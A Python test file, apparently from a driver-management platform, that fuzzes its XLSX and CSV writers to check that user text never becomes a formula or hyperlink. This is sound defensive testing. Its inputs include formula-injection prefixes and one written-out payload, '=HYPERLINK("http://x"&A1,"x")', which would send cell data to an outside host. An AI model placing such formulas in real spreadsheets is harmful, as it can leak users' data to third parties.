"""Every workbook and CSV file the platform writes keeps user text as text.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must never
become a formula or a link: in XLSX no cell holds a formula (``<f>``) or a hyperlink
and every text reads back unchanged; in CSV such a cell is preceded by an apostrophe.
Hypothesis sends random text through each writer.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from driverhome.core import sheets
from driverhome.drivers import importer, rosters

#: text a person could type (XML 1.0 has no place for other control characters)
TYPED = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
HOSTILE = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from([*sheets.FORMULA_STARTS, "=HYPERLINK(", "http://", "mailto:", ""]),
    st.text(TYPED, max_size=40),
)
EXAMPLES = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def _no_formula_or_link(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = book.namelist()
        assert not [n for n in names if "externalLink" in n]
        for name in names:
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
                assert "<hyperlink" not in xml, name


def _cells(data: bytes, sheet: int = 0) -> list[list]:
    from python_calamine import CalamineWorkbook

    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return workbook.get_sheet_by_index(sheet).to_python()


def _formula_like(text: str) -> bool:
    return text.startswith(sheets.FORMULA_STARTS)


@EXAMPLES
@given(st.lists(HOSTILE, min_size=1, max_size=6))
def test_write_row_keeps_every_string_a_string(values):
    out = io.BytesIO()
    book = sheets.workbook(out, in_memory=True)
    sheets.write_row(book.add_worksheet("s"), 0, 0, values)
    book.close()
    data = out.getvalue()
    _no_formula_or_link(data)
    assert [str(v) for v in _cells(data)[0]] == [v for v in values]


@EXAMPLES
@given(HOSTILE, HOSTILE)
def test_the_roster_workbook_and_csv_keep_text(name, hometown):
    row = [name, "110101199003077777", "13800138000", "", "", "", hometown, ""]
    data = rosters.to_xlsx([row])
    _no_formula_or_link(data)
    assert _cells(data)[1][0] == name
    text = rosters.to_csv([row]).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1]
    for written, original in ((read[0], name), (read[6], hometown)):
        if _formula_like(original):
            assert written == "'" + original
        else:
            assert written == original


@EXAMPLES
@given(HOSTILE)
def test_the_import_report_keeps_the_reason_as_text(reason):
    data = importer.report_xlsx([[2, "rejected", "name", reason]])
    _no_formula_or_link(data)
    assert _cells(data)[1][3] == reason


@pytest.mark.django_db
@EXAMPLES
@given(name=HOSTILE, hometown=HOSTILE)
def test_the_drivers_export_keeps_names_and_hometowns_as_text(personas, orgs, name, hometown):
    from driverhome.drivers import actions, exporting
    from driverhome.drivers.models import Driver

    driver = Driver.objects.filter(organisation=orgs["xiapu"]).first()
    if driver is None:
        driver = actions.create_driver(
            actor=personas["admin"], organisation=orgs["xiapu"], name="占位"
        )
    Driver.objects.filter(pk=driver.pk).update(name=name[:60], hometown=hometown[:60])
    data = exporting.drivers_xlsx(Driver.objects.filter(pk=driver.pk), user=personas["admin"])
    _no_formula_or_link(data)
    row = _cells(data)[1]
    assert row[0] == name[:60] and row[8] == hometown[:60]


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    assert sheets.csv_cell('=HYPERLINK("http://x"&A1,"x")') == '\'=HYPERLINK("http://x"&A1,"x")'
    assert [sheets.csv_cell(v) for v in ("+1", "-1", "@a", "\tx", "\rx")] == [
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
    ]
    assert sheets.csv_cell("王建国") == "王建国" and sheets.csv_cell(12) == 12
